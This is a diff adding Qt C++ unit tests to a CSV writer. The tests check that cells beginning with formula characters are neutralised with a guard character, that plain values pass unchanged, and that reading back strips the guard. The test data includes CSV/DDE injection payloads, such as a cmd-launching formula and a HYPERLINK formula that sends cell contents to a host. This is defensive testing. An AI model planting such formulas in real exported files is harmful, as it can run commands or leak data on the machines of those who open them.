@@ -74,6 +74,12 @@ private Q_SLOTS:
     void textThatTheEncodingLacksIsAnErrorAndNoFile();
     void aFullDiskIsAnError();
     void failedRowsKeepTheFilesOwnDialect();
+    void aSpreadsheetRunsNoCell_data();
+    void aSpreadsheetRunsNoCell();
+    void whatNeedsNoGuardStaysAsItIs_data();
+    void whatNeedsNoGuardStaysAsItIs();
+    void guardsCanBeLeftOut();
+    void onlyOurOwnGuardsAreTakenAway();
 };
 
 void TestCsvWriter::spreadsheetsOpenWhatIsWrittenByDefault()
@@ -185,6 +191,84 @@ void TestCsvWriter::failedRowsKeepTheFilesOwnDialect()
     const WriteOptions legacy = WriteOptions::like(dialect, "Shift_JIS", false);
     QCOMPARE(legacy.encoding, QByteArray("UTF-8"));
     QVERIFY(legacy.bom);
+}
+
+/// What spreadsheets take for the begin of a formula: LibreOffice '=', Excel also + - @ and, after it dropped
+/// them, what stands behind a tab or line end; Japanese ones the full-width forms.
+void TestCsvWriter::aSpreadsheetRunsNoCell_data()
+{
+    QTest::addColumn<QByteArray>("cell");
+    for (const char *cell : {"=1+2",
+                             "=cmd|' /C calc'!A0",
+                             "=HYPERLINK(\"http://x/?\"&A1,\"y\")",
+                             "+1+cmd|' /C calc'!A0",
+                             "-2+3+cmd|' /C calc'!A0",
+                             "@SUM(1+1)*cmd|' /C calc'!A0",
+                             "\t=1+2",
+                             "\r=1+2",
+                             "\n=1+2",
+                             "=",
+                             "-",
+                             "+",
+                             "@",
+                             "-_-",
+                             "-a b",
+                             "+49 30 1234",
+                             "\xEF\xBC\x9D"
+                             "1+2",
+                             "\xEF\xBC\x8B"
+                             "1+2",
+                             "\xEF\xBC\x8D"
+                             "x y",
+                             "\xEF\xBC\xA0"
+                             "SUM(1)"})
+        QTest::newRow(cell) << QByteArray(cell);
+}
+
+void TestCsvWriter::aSpreadsheetRunsNoCell()
+{
+    QFETCH(QByteArray, cell);
+    const Rows rows{{"a", "b"}, {cell, "x"}, {"\xE2\x81\xA0" + cell, "\xE2\x81\xA0\xE2\x81\xA0" + cell}};
+    const QByteArray bytes = written(rows);
+    QVERIFY(bytes.contains("\r\n\xE2\x81\xA0" + cell) || bytes.contains("\r\n\"\xE2\x81\xA0"));
+    QCOMPARE(readBack(bytes, "UTF-8", {}), rows);
+}
+
+void TestCsvWriter::whatNeedsNoGuardStaysAsItIs_data()
+{
+    QTest::addColumn<QByteArray>("cell");
+    QTest::addColumn<bool>("alsoAsText");
+    for (const char *cell : {"-12", "+8613900000000", "-0.5", "'=x", "'-_-", "a=b", "1-2", "(1)"})
+        QTest::newRow(cell) << QByteArray(cell) << true;
+    for (const char *cell : {"-abc", "@x", "+user_1.b-2"})
+        QTest::newRow(cell) << QByteArray(cell) << false;
+}
+
+void TestCsvWriter::whatNeedsNoGuardStaysAsItIs()
+{
+    QFETCH(QByteArray, cell);
+    QFETCH(bool, alsoAsText);
+    WriteOptions options;
+    options.bom = false;
+    options.identifiers = {0};
+    const QByteArray bytes = written({{cell, cell}}, options);
+    QVERIFY2(bytes.startsWith(cell + ','), bytes);
+    QCOMPARE(bytes == cell + ',' + cell + "\r\n", alsoAsText);
+}
+
+void TestCsvWriter::guardsCanBeLeftOut()
+{
+    WriteOptions options;
+    options.bom = false;
+    options.guardFormulas = false;
+    QCOMPARE(written({{"=1+2", "@x"}}, options), QByteArray("=1+2,@x\r\n"));
+}
+
+void TestCsvWriter::onlyOurOwnGuardsAreTakenAway()
+{
+    const QByteArray guard = "\xE2\x81\xA0";
+    QCOMPARE(readBack(guard + "a,x" + guard + "=1," + guard + ",'=1," + guard + "=1\n", "UTF-8", {}),
+             (Rows{{guard + "a", "x" + guard + "=1", guard, "'=1", "=1"}}));
 }
 
 QTEST_GUILESS_MAIN(TestCsvWriter)
